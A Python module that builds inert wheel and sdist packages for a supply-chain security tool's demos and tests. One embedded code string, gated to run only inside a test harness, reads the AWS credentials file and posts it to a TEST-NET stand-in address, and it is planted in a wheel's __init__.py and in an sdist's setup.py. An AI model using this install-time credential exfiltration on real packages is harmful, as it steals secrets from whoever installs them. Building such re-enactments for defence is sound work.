"""Inert packages made on the spot: a harmless release, and one that re-enacts a theft.

A re-enactment acts only where the harness marker is shown (test and research boxes), reads only
planted decoys, and sends only to TEST-NET (RFC 5737), which inside a box is our sinkhole.
Elsewhere it does nothing at all.
"""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from importlib.metadata import distribution
from pathlib import Path

CLASSIFIER = "Private :: Do Not Upload"
TEST_NET_ADDRESS = "203.0.113.7"
_EPOCH = (2026, 1, 1, 0, 0, 0)
UPLOADED = datetime(2026, 1, 2, tzinfo=UTC)
"""Upload time of a package that does not state one."""

ACTS_ONLY_IN_BOXES = """\
import os as _os
import pathlib as _pathlib

def _in_a_test_box():
    return _os.environ.get("PRATIQUE_HARNESS") == "1" and _pathlib.Path("/run/pratique-harness").exists()

"""

STEALS_DECOY = (
    ACTS_ONLY_IN_BOXES
    + f"""\
def _reenact():
    import urllib.request
    key = _pathlib.Path("~/.aws/credentials").expanduser().read_bytes()
    try:
        urllib.request.urlopen("http://{TEST_NET_ADDRESS}/collect", data=key, timeout=5).read()
    except OSError:
        pass

if _in_a_test_box():
    _reenact()
"""
)


BUILD_SYSTEM = b"""\
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class BuiltFile:
    """A distribution file in memory."""

    project: str
    filename: str
    data: bytes
    uploaded: datetime
    requires_python: str = ">=3.8"
    yanked: str = ""
    """Why its publisher withdrew it (PEP 592); empty: it is not yanked."""

    @property
    def sha256(self) -> str:
        """Hex digest of the bytes."""
        return hashlib.sha256(self.data).hexdigest()

    @property
    def metadata(self) -> bytes | None:
        """The core metadata out of a wheel, as an index offers it (PEP 658); None for an sdist."""
        if not self.filename.endswith(".whl"):
            return None
        with zipfile.ZipFile(io.BytesIO(self.data)) as archive:
            return next(
                archive.read(n) for n in archive.namelist() if n.endswith(".dist-info/METADATA")
            )


def build_wheel(
    project: str,
    version: str,
    files: Mapping[str, str | bytes],
    *,
    requires: tuple[str, ...] = (),
    uploaded: datetime | None = None,
    tag: str = "py3-none-any",
) -> BuiltFile:
    """A well-formed wheel holding `files` (path → content), with metadata and RECORD."""
    stem = f"{project.replace('-', '_')}-{version}"
    info = f"{stem}.dist-info"
    members = {path: _bytes(content) for path, content in files.items()} | {
        f"{info}/METADATA": _metadata(project, version, requires),
        f"{info}/WHEEL": (
            f"Wheel-Version: 1.0\nGenerator: pratique\nRoot-Is-Purelib: true\nTag: {tag}\n"
        ).encode(),
    }
    record = "".join(f"{path},{_record_hash(data)},{len(data)}\n" for path, data in members.items())
    members[f"{info}/RECORD"] = f"{record}{info}/RECORD,,\n".encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in members.items():
            archive.writestr(zipfile.ZipInfo(path, _EPOCH), data, zipfile.ZIP_DEFLATED)
    return BuiltFile(
        project=project,
        filename=f"{stem}-{tag}.whl",
        data=buffer.getvalue(),
        uploaded=uploaded or UPLOADED,
    )


def build_sdist(
    project: str,
    version: str,
    files: Mapping[str, str | bytes],
    *,
    setup_prologue: str = "",
    build_system: bool = True,
    uploaded: datetime | None = None,
) -> BuiltFile:
    """An sdist with a setup.py that runs `setup_prologue` and then setuptools.

    Without `build_system` it has no pyproject.toml, as old sdists have none (PEP 518).
    """
    stem = f"{project.replace('-', '_')}-{version}"
    modules = sorted({path.split("/")[0].removesuffix(".py") for path in files})
    packages = [name for name in modules if any(path.startswith(f"{name}/") for path in files)]
    singles = [name for name in modules if name not in packages]
    setup = (
        f"{setup_prologue}\nfrom setuptools import setup\n"
        f"setup(name={project!r}, version={version!r}, packages={packages!r}, py_modules={singles!r},"
        f" classifiers=[{CLASSIFIER!r}])\n"
    )
    members = {path: _bytes(content) for path, content in files.items()} | {
        "setup.py": setup.encode(),
        "PKG-INFO": _metadata(project, version, ()),
        **({"pyproject.toml": BUILD_SYSTEM} if build_system else {}),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as archive:
        for path, data in members.items():
            member = tarfile.TarInfo(f"{stem}/{path}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return BuiltFile(
        project=project,
        filename=f"{stem}.tar.gz",
        data=buffer.getvalue(),
        uploaded=uploaded or UPLOADED,
    )


def installed_wheel(project: str) -> BuiltFile:
    """An installed pure-Python distribution, packed as a wheel again.

    The local index has to offer what sdists are built with, and has nothing but this environment
    to take it from.
    """
    found = distribution(project)
    members = {
        str(file): Path(str(found.locate_file(file))).read_bytes()
        for file in found.files or ()
        if ".." not in file.parts and file.suffix != ".pyc"
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in sorted(members.items()):
            archive.writestr(zipfile.ZipInfo(path, _EPOCH), data, zipfile.ZIP_DEFLATED)
    return BuiltFile(
        project=project,
        filename=f"{project}-{found.version}-py3-none-any.whl",
        data=buffer.getvalue(),
        uploaded=UPLOADED,
    )


def demo_packages() -> tuple[BuiltFile, ...]:
    """What `pratique demo` offers: a project whose second release turned, as wheel and sdist.

    And setuptools, which the sdists are built with.
    """
    harmless = {"reenact_demo/__init__.py": '"""Harmless."""\nVERSION = "1.0"\n'}
    turned = {"reenact_demo/__init__.py": '"""It turned."""\n' + STEALS_DECOY}
    later = datetime(2026, 6, 1, tzinfo=UTC)
    return (
        build_wheel("reenact-demo", "1.0", harmless),
        build_wheel("reenact-demo", "2.0", turned, uploaded=later),
        build_sdist("reenact-demo-sdist", "1.0", {"reenact_demo_sdist.py": '"""Harmless."""\n'}),
        build_sdist(
            "reenact-demo-sdist",
            "2.0",
            {"reenact_demo_sdist.py": '"""Harmless itself."""\n'},
            setup_prologue=STEALS_DECOY,
            uploaded=later,
        ),
        installed_wheel("setuptools"),
    )


def _metadata(project: str, version: str, requires: tuple[str, ...]) -> bytes:
    lines = [
        "Metadata-Version: 2.1",
        f"Name: {project}",
        f"Version: {version}",
        "Summary: An inert package made by Pratique for its own walk and tests",
        f"Classifier: {CLASSIFIER}",
        "Requires-Python: >=3.8",
        *(f"Requires-Dist: {requirement}" for requirement in requires),
    ]
    return ("\n".join(lines) + "\n").encode()


def _bytes(content: str | bytes) -> bytes:
    return content.encode() if isinstance(content, str) else content


def _record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"sha256={digest}"
